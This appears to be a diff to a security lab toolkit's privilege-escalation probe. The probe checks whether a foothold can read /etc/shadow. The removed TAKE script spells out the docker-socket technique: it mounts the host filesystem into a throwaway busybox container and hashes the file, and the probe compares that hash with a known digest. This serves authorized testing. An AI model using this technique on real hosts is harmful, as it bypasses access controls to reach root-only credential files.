@@ -6,6 +6,7 @@ import re
 from collections.abc import Sequence
 from typing import TYPE_CHECKING
 
+from labkit import agents
 from labkit.errors import CommandFailed, ProbeError, ProbeTimeout
 from labkit.model import Foothold
 from labkit.techniques._reach import ATTEMPTS, digest, inside, place, run
@@ -24,19 +25,6 @@ WORKER, ONLY_ROOT_READS = "worker1", "/etc/shadow"
 KNOCK = ["curl", "--silent", "--show-error", "--verbose", "--noproxy", "*", "--max-time", "5"]
 REFUSALS = ("Permission denied", "Connection refused")
 ALERT = re.compile(r"^curl: .*alert ([a-z ]+[a-z])", re.MULTILINE)
-#: The image is busybox, brought along; the machine is mounted, and nothing of it changed. There
-#: is no home: docker's client stops at one that it may not look into for certificates.
-TAKE = """
-set -eu
-export HOME=/nonexistent
-file=$1
-shift
-image=labkit-attack-$$
-trap 'docker "$@" rmi --force "$image" >/dev/null 2>&1' EXIT
-tar --directory=/ --create usr/bin/busybox 2>/dev/null | docker "$@" import - "$image" >/dev/null
-docker "$@" run --rm --network=none --volume=/:/machine:ro "$image" \\
-  /usr/bin/busybox sha256sum "/machine$file"
-"""
 
 
 def become_root(
@@ -98,7 +86,7 @@ def become_root(
         return Verdict(technique, lab.mode, foothold, False, reason, tried, control(lab))
     if asked.exit_code:
         raise ProbeError(f"{technique}: curl exited with {asked.exit_code}", evidence=_tail(asked))
-    argv = ["sh", "-c", TAKE, "-", ONLY_ROOT_READS, *options]
+    argv = agents.argv("read_by_docker", ONLY_ROOT_READS, *options)
     took = _do(lab, foothold, argv, user, pod)
     truth = digest(lab, WORKER, ONLY_ROOT_READS)
     if took.exit_code or truth not in took.text:
